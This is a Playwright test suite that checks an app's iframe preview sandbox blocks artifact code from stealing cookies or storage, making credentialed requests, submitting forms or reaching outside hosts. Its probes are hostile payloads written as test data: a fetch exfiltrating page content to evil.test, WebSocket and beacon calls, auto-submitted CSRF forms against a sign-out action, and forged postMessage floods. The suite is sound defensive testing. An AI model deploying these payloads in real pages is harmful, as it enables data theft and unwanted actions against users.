// Artifact code in the preview frame cannot reach the app: no cookie, storage or parent document, no
// credentialed request, no form post to an action, no escape from the frame, no bridge abuse.
import { expect, PREVIEW_URL, query, test } from "./fixtures";
import {
  APP_URL,
  createArtifact,
  createSignedInOwner,
  frameViolations,
  owner,
  preview,
  probeArtifact,
  probeResults,
  reachedNetwork,
  secrets,
  seenByApp,
  signInWithCanary,
  watch,
} from "./sandbox/helpers";

test.beforeAll(async ({ browser }) => createSignedInOwner(browser));

test.beforeEach(async ({ context, page }) => {
  await signInWithCanary(context);
  // The owner really is signed in on the app: the sandbox has something to steal.
  await page.goto("/");
  await expect(page.getByLabel("Account menu")).toBeVisible();
});

test("it reads no cookie, storage, parent document or top URL", async ({ page }) => {
  const id = await createArtifact(
    "html",
    probeArtifact(`
  t("cookie", () => document.cookie);
  t("localStorage", () => localStorage.getItem("x"));
  t("sessionStorage", () => sessionStorage.length);
  t("parentDocument", () => parent.document.cookie);
  t("topHref", () => top.location.href);
  t("origin", () => self.origin);
  try { r.indexedDB = await new Promise((ok, no) => { const q = indexedDB.open("x"); q.onsuccess = () => ok("opened"); q.onerror = () => no(q.error); }); }
  catch (e) { r.indexedDB = "threw " + (e && e.name); }
  try { r.cookieStore = JSON.stringify(await cookieStore.getAll()); } catch (e) { r.cookieStore = "threw " + e.name; }
  parent.postMessage({ type: "error", message: "leak " + r.cookie }, "*");`),
  );
  const { requests } = await watch(page);
  await page.goto(`/a/${id}`);
  const r = await probeResults(page);
  expect(r.origin).toBe("null");
  expect(r.cookie === "" || String(r.cookie).startsWith("threw")).toBe(true);
  expect(r.localStorage).toBe("threw SecurityError");
  expect(r.sessionStorage).toBe("threw SecurityError");
  expect(r.indexedDB).toMatch(/^threw/);
  expect(r.parentDocument).toBe("threw SecurityError");
  expect(r.topHref).toBe("threw SecurityError");
  // The canary is on the app origin; nothing the frame could see or report contains it.
  await expect.poll(() => seenByApp(page)).toContain("leak");
  const seen = await seenByApp(page);
  for (const secret of secrets()) expect(JSON.stringify(r) + seen).not.toContain(secret);
  // The frame's own requests (the shim, runtimes) go to the preview host and carry no app cookie.
  const frameRequests = requests.filter((q) => q.url().startsWith(PREVIEW_URL));
  expect(frameRequests.length).toBeGreaterThan(0);
  for (const q of frameRequests) expect((await q.allHeaders()).cookie ?? "").toBe("");
});

test("a credentialed fetch or beacon to the app is blocked and never reaches it", async ({
  page,
}) => {
  const id = await createArtifact(
    "html",
    probeArtifact(`
  try { const res = await fetch(${JSON.stringify(APP_URL)} + "/api/health", { credentials: "include" }); r.fetch = "status " + res.status; }
  catch (e) { r.fetch = "threw " + e.name; }
  try { r.beacon = String(navigator.sendBeacon(${JSON.stringify(APP_URL)} + "/api/health?beacon=1", "x")); } catch (e) { r.beacon = "threw " + e.name; }
  try { const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(APP_URL)} + "/api/health?xhr=1"); x.withCredentials = true; x.send(); r.xhr = "sent"; }
  catch (e) { r.xhr = "threw " + e.name; }`),
  );
  const { requests } = await watch(page);
  await page.goto(`/a/${id}`);
  const r = await probeResults(page);
  expect(r.fetch).toBe("threw TypeError");
  // The refusals arrive as connect-src violations: wait for them rather than for a time.
  await expect
    .poll(
      async () =>
        (await frameViolations(page)).filter(
          (v) => v.startsWith("connect-src") && v.includes("/api/health"),
        ).length,
    )
    .toBeGreaterThanOrEqual(2);
  expect(await reachedNetwork(requests, (url) => url.includes("/api/health"))).toEqual([]);
});

test("an auto-submitted form POST to the app is blocked and changes nothing", async ({ page }) => {
  // Scoped to the owner: other workers create artifacts and users at the same time.
  const counts = () =>
    query<{ n: string }>(
      `select (select count(*) from artifacts where owner_user_id = $1)
            + (select count(*) from artifact_versions v join artifacts a on a.id = v.artifact_id where a.owner_user_id = $1)
            + (select session_version from users where id = $1) as n`,
      [owner.id],
    );
  // The real sign-out server action of this build, as the app's own no-JS form posts it: if the
  // sandbox let it through, the owner would be signed out.
  const signOutField = await page
    .locator('form input[name^="$ACTION_ID_"]')
    .first()
    .getAttribute("name");
  expect(signOutField).toMatch(/^\$ACTION_ID_[0-9a-f]+$/);
  const forms = [
    `<form id="f" method="post" enctype="multipart/form-data" action="${APP_URL}/">
     <input type="hidden" name="${signOutField}"></form>
     <script>document.getElementById("f").requestSubmit();</script>`,
    // A route handler, urlencoded.
    `<form id="f" method="post" action="${APP_URL}/api/health"><input name="title" value="pwned"></form>
     <script>document.getElementById("f").submit();</script>`,
  ];
  const { requests, console } = await watch(page);
  for (const [i, html] of forms.entries()) {
    const id = await createArtifact("html", html);
    const before = await counts();
    await page.goto(`/a/${id}`);
    // The submission is refused by form-action 'none'; Chromium says so for each one. Proof that it
    // changed nothing: no POST left the browser, the page stayed, the database is unchanged.
    await expect.poll(() => console.filter((m) => /form-action/.test(m)).length).toBeGreaterThan(i);
    expect(page.url()).toBe(`${APP_URL}/a/${id}`);
    expect(await counts()).toEqual(before);
  }
  expect(await reachedNetwork(requests, (_url, q) => q.method() === "POST")).toEqual([]);
  await page.goto("/");
  await expect(page.getByLabel("Account menu"), "the owner is still signed in").toBeVisible();
});

test("fetch, WebSocket, EventSource and sendBeacon to an outside host are blocked by the CSP", async ({
  page,
}) => {
  const id = await createArtifact(
    "html",
    probeArtifact(`
  try { await fetch("https://evil.test/?d=" + encodeURIComponent(document.body.innerHTML)); r.fetch = "sent"; } catch (e) { r.fetch = "threw " + e.name; }
  try { new WebSocket("wss://evil.test/socket"); r.ws = "opened"; } catch (e) { r.ws = "threw " + e.name; }
  try { new EventSource("https://evil.test/events"); r.es = "opened"; } catch (e) { r.es = "threw " + e.name; }
  try { r.beacon = String(navigator.sendBeacon("https://evil.test/beacon", "x")); } catch (e) { r.beacon = "threw " + e.name; }`),
  );
  const { requests } = await watch(page);
  await page.goto(`/a/${id}`);
  const r = await probeResults(page);
  expect(r.fetch).toBe("threw TypeError");
  await expect
    .poll(
      async () =>
        (await frameViolations(page)).filter(
          (v) => v.startsWith("connect-src") && v.includes("evil.test"),
        ).length,
    )
    .toBeGreaterThanOrEqual(3);
  expect(await reachedNetwork(requests, (url) => url.includes("evil.test"))).toEqual([]);
  // The shim shows the author why, inside the frame.
  await expect(
    preview(page)
      .getByText(/Blocked by the preview's security policy/)
      .first(),
  ).toBeVisible();
});

test("a flood of forged bridge messages is clamped and dropped", async ({ page }) => {
  const id = await createArtifact(
    "javascript",
    `document.body.textContent = "flooding";
     const long = "x".repeat(20000);
     for (let i = 0; i < 1000; i++) {
       parent.postMessage({ type: "resize", height: 1e9 }, "*");
       parent.postMessage({ type: "open-link", url: "https://evil.test" }, "*");
       parent.postMessage({ type: "error", message: long }, "*");
     }`,
  );
  const { pages } = await watch(page);
  await page.goto(`/a/${id}`);
  await expect(preview(page).getByText("flooding")).toBeVisible();
  const box = await page.locator('iframe[title^="Preview of"]').boundingBox();
  expect(box!.height).toBeLessThanOrEqual(800);
  expect(pages).toEqual([]);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
});
